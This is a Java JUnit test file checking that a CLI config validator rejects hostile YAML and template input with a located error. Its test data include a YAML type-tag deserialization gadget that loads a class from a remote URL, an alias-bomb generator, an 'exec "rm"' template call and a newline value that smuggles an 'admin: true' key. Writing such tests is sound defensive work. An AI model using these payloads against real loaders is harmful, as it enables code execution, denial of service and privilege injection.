package org.openautoglm.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.openautoglm.cli.CliRun.autoglm;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Input that is malformed or built to attack the loader: refused with exit code 2 and a message at
 * its {@code file:line:column}, quickly, whether it comes as a template or as a values file.
 */
@Timeout(20)
class ValidateHostileInputTest {
  @TempDir Path temp;

  /** A hostile document and the position of its first offence ({@code null}: any position). */
  record Hostile(String name, byte[] content, String position, String reason) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Hostile> hostileYaml() {
    return Stream.of(
        new Hostile(
            "type tag",
            utf8(
                "a: 1\n"
                    + "b: !!javax.script.ScriptEngineManager"
                    + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"),
            "2:4",
            "YAML tags that name types are not allowed"),
        new Hostile("duplicate key", utf8("a: 1\nb: 2\na: 3\n"), "3:1", "duplicate key 'a'"),
        new Hostile(
            "invalid UTF-8",
            concat(utf8("a: 1\nb: \"caf"), new byte[] {(byte) 0xE9}, utf8("\"\n")),
            "2:8",
            "invalid UTF-8"),
        new Hostile("alias bomb (aliases)", utf8(aliasBomb(9, 9)), null, "aliases"),
        new Hostile("alias bomb (nodes)", utf8(aliasBomb(7, 7)), null, "alias bomb"),
        new Hostile("too deep", utf8("a: " + "[".repeat(60) + "]".repeat(60) + "\n"), null, "50"));
  }

  static Stream<Arguments> hostileTemplates() {
    return Stream.concat(
            hostileYaml(),
            Stream.of(
                new Hostile(
                    "unclosed action", utf8("a: 1\nb: {{ .x\nc: 2\n"), "2:4", "unclosed '{{'"),
                new Hostile(
                    "unknown function",
                    utf8("a: {{ .x | exec \"rm\" }}\n"),
                    "1:12",
                    "unknown function 'exec'")))
        .map(Arguments::of);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileTemplates")
  void shouldRefuseAHostileTemplateAtItsPosition(Hostile hostile) throws IOException {
    Path file = temp.resolve("config.yaml");
    Files.write(file, hostile.content());

    CliRun run = autoglm("validate", file.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines()).hasSize(2);
    assertThat(run.outLines().get(0))
        .matches(prefix(file, hostile.position()) + ".*")
        .contains(hostile.reason());
    assertThat(run.outLines().get(1)).isEqualTo("rejected: 1 error in 1 of 1 checks");
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileYaml")
  void shouldRefuseAHostileValuesFileAtItsPosition(Hostile hostile) throws IOException {
    Path values = temp.resolve("values.yaml");
    Files.write(values, hostile.content());
    Path template = temp.resolve("config.yaml");
    Files.writeString(template, "a: {{ .a | default 1 }}\n");

    CliRun run = autoglm("validate", "--values", values.toString(), template.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines()).hasSize(2);
    assertThat(run.outLines().get(0))
        .matches(prefix(values, hostile.position()) + ".*")
        .contains(hostile.reason());
    assertThat(run.outLines().get(1)).isEqualTo("rejected: 1 error in 1 of 1 checks");
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileYaml")
  void shouldRefuseAHostileConfigOfAProjectAndStillCheckTheOthers(Hostile hostile) {
    ExampleProject project =
        ExampleProject.copyInto(temp).write("configs/train.yaml", hostile.content());

    CliRun run = autoglm("validate", "--format", "json", "--project", project.descriptor());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(ReportedError.allIn(run.out()))
        .isNotEmpty()
        .allSatisfy(
            error -> {
              assertThat(error.file()).isEqualTo(project.path("configs/train.yaml"));
              assertThat(error.line() + ":" + error.column())
                  .matches(hostile.position() == null ? "\\d+:\\d+" : hostile.position());
              assertThat(error.message()).contains(hostile.reason());
            });
    assertThat(run.out())
        .as("serving.json is still checked in every environment")
        .contains("\"file\" : \"" + project.path("configs/serving.json") + "\"");
    assertThat(run.out().split("\"valid\" : true", -1)).hasSize(4);
  }

  @Test
  void shouldRefuseAFileLargerThanTheLimitBeforeReadingIt() throws IOException {
    Path file = temp.resolve("big.yaml");
    try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
      sparse.setLength(10L * 1024 * 1024 + 1);
    }

    CliRun run = autoglm("validate", file.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines().get(0))
        .startsWith(file + ":1:1: ")
        .contains("10485761 bytes", "10485760", "--max-bytes");
  }

  @Test
  void shouldRefuseAFileLargerThanALoweredLimit() throws IOException {
    Path file = temp.resolve("config.yaml");
    Files.writeString(file, "a: 1\n".repeat(100));

    CliRun run = autoglm("validate", "--max-bytes", "100", file.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines().get(0)).startsWith(file + ":1:1: ").contains("500 bytes");
  }

  @Test
  void shouldRefuseAValueContainingTemplateBracesFromAValuesFile() throws IOException {
    Path values = temp.resolve("values.yaml");
    Files.writeString(values, "name: \"{{ .secret }}\"\n");
    Path template = temp.resolve("config.yaml");
    Files.writeString(template, "a: 1\nname: {{ .name }}\n");

    CliRun run = autoglm("validate", "--values", values.toString(), template.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines().get(0))
        .startsWith(template + ":2:7: ")
        .contains("contains '{{'", values + ":1:7");
  }

  @Test
  void shouldRefuseAValueContainingTemplateBracesFromSet() throws IOException {
    Path template = temp.resolve("config.yaml");
    Files.writeString(template, "name: {{ .name }}\n");

    CliRun run = autoglm("validate", "--set", "name={{ .secret }}", template.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(2);
    assertThat(run.outLines().get(0))
        .startsWith(template + ":1:7: ")
        .contains("contains '{{'", "--set name={{ .secret }}");
  }

  @Test
  void shouldReportAMultiLineValueAtTheActionInsteadOfLettingItAddKeys() throws IOException {
    Path template = temp.resolve("config.yaml");
    Files.writeString(template, "name: {{ .name }}\n");

    CliRun run = autoglm("validate", "--set", "name=x\nadmin: true", template.toString());

    assertThat(run.exitCode()).as(run.transcript()).isEqualTo(1);
    assertThat(run.outLines().get(0)).startsWith(template + ":1:7: ").contains("several lines");
  }

  /** A regular expression for the start of a diagnostic line. */
  private static String prefix(Path file, String position) {
    return Pattern.quote(file.toString())
        + ":"
        + (position == null ? "\\d+:\\d+" : Pattern.quote(position))
        + ": ";
  }

  /** {@code levels} anchors, each a list of {@code width} aliases to the one before. */
  private static String aliasBomb(int levels, int width) {
    List<String> lines = new ArrayList<>();
    lines.add("l0: &l0 [" + String.join(",", Collections.nCopies(width, "x")) + "]");
    for (int level = 1; level < levels; level++) {
      lines.add(
          "l"
              + level
              + ": &l"
              + level
              + " ["
              + String.join(",", Collections.nCopies(width, "*l" + (level - 1)))
              + "]");
    }
    return String.join("\n", lines) + "\n";
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[]... parts) {
    int length = 0;
    for (byte[] part : parts) {
      length += part.length;
    }
    byte[] all = new byte[length];
    int at = 0;
    for (byte[] part : parts) {
      System.arraycopy(part, 0, all, at, part.length);
      at += part.length;
    }
    return all;
  }
}
